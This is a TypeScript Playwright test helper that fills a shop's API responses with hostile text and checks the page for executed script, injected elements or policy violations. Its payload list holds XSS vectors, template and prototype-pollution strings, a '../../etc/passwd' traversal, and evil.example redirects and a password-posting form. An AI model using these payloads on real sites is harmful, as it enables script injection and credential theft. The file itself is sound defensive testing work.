import type { Page } from '@playwright/test';
import { z } from 'zod';
import { api } from '#contract/api.ts';
import { json, silent, type CannedAnswers } from './canned-answers.ts';
import type { JsonSchema } from './json-schema.ts';

/**
 * Text that has somewhere run as a script, closed a tag, reversed a page or broken a layout. Each reveals itself: if it
 * runs, it calls `alert` or sets `pwned`.
 */
export const hostileText: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>pwned=1</script>',
  '<img src=x onerror=pwned=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="pwned=1" autofocus onfocus="pwned=1',
  "' onfocus='pwned=1' autofocus='",
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:pwned=1">press</a>',
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none!important}</style>',
  '<form action=https://evil.example><input name=password>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<math><mtext></p><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<script>alert(1)//-->',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u202Egnirts desrever\u202C tail',
  'left\u2066\u202Eright\u2069\u200Fmark',
  'zero\u200Bwidth\u200C\u200D\uFEFFjoin',
  'Z\u0351\u036F\u0310a\u0352\u0362\u034El\u0359\u0330\u031Eg\u035A\u0319o\u0353\u031F',
  'W'.repeat(90),
  'ﷺ﷽𒐫꧅'.repeat(12),
  '👩‍👩‍👧‍👦'.repeat(8),
  '//evil.example/%2e%2e',
  '../../etc/passwd',
];

type Answer = JsonSchema & { $ref?: string; $defs?: Record<string, Answer> };

/** What the shop would answer to every call if each free text in it were hostile: all of them, in the rows of a list. */
export function hostileAnswers(): CannedAnswers {
  const definitions: Record<string, Answer> = {};
  const counts = new Map<string, number>();
  const textOf = (name: string, depth: number) => {
    const key = `${name} ${depth}`;
    const count = counts.get(key) ?? counts.size;
    counts.set(key, count + 1);
    if (/(?:^id|Id|Uuid|fingerprint)$/i.test(name))
      return `00000000-0000-4000-8000-${String(count).padStart(12, '0')}`;
    if (/(?:At|Date|From|To|Until|timestamp|dateOfBirth)$/.test(name)) return '2026-03-05T14:30:00.000Z';
    if (/(?:Path|Picture|Image|Url)$/i.test(name)) return '/favicon.svg';
    // These are the shop's own words.
    if (/^(?:device|orderNumber)$/.test(name)) return 'Otter 1';
    return hostileText[count % hostileText.length]!;
  };
  const sampleOf = (schema: Answer, name: string, depth = 0): unknown => {
    const { $ref, $defs = {}, enum: choices = [], allOf, items, properties = {} } = schema;
    Object.assign(definitions, $defs);
    if ($ref) return sampleOf(definitions[$ref.split('/').at(-1)!]!, name, depth);
    const some = (schema.anyOf ?? schema.oneOf ?? []).find(({ type }) => type !== 'null');
    if (some) return sampleOf(some, name, depth);
    if (schema.const !== undefined || choices.length > 0) return schema.const ?? choices[0];
    if (allOf) return Object.assign({}, ...allOf.map((each) => sampleOf(each, name, depth) as object));
    switch (schema.type) {
      case 'array':
        return Array.from({ length: [hostileText.length, 5, 1, 0][depth] ?? 0 }, () =>
          sampleOf(items!, name, depth + 1),
        );
      case 'object':
        return Object.fromEntries(
          Object.entries(properties).map(([key, each]) => [key, sampleOf(each, key, depth)]),
        );
      case 'string':
        return textOf(name, depth);
      case 'boolean':
        return true;
      default:
        return 1;
    }
  };
  const answers = Object.fromEntries(
    Object.entries(api).flatMap(([name, { answers }]) => {
      const schema = (answers as Record<number, z.ZodType>)[200];
      if (!schema) return [];
      const shape = z.toJSONSchema(schema, { io: 'output', unrepresentable: 'any' }) as Answer;
      return [[name, json(sampleOf(shape, ''))]];
    }),
  );
  // No category has moved: its place would be hostile, too, and so on.
  return { ...answers, findMovedCategory: silent(404) };
}

interface Watched {
  pwned?: unknown;
  violations?: string[];
}

/** Call it before the first page loads: `harmDone` sees what this records. */
export async function watchForHarm(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { violations: seen });
    window.alert = () => seen.push('alert');
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
}

/** Text that has run as script or become an element, and whatever the content security policy had to block. */
export async function harmDone(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const { pwned, violations = ['not watched'] } = window as Watched;
    const foreign = document.querySelectorAll(
      'main iframe, main base, main meta, main style, main template, main script:not([type="application/ld+json"])',
    );
    const links = [...document.querySelectorAll('a[href]')].map((link) => (link as HTMLAnchorElement).href);
    return [
      ...violations,
      ...(pwned === undefined ? [] : ['script has run']),
      ...[...foreign].map(({ outerHTML }) => outerHTML),
      ...links.filter((href) => /^(?:javascript|data):/i.test(href)),
      ...(document.body.innerText.trim().length < 40 ? ['a blank page'] : []),
    ];
  });
}
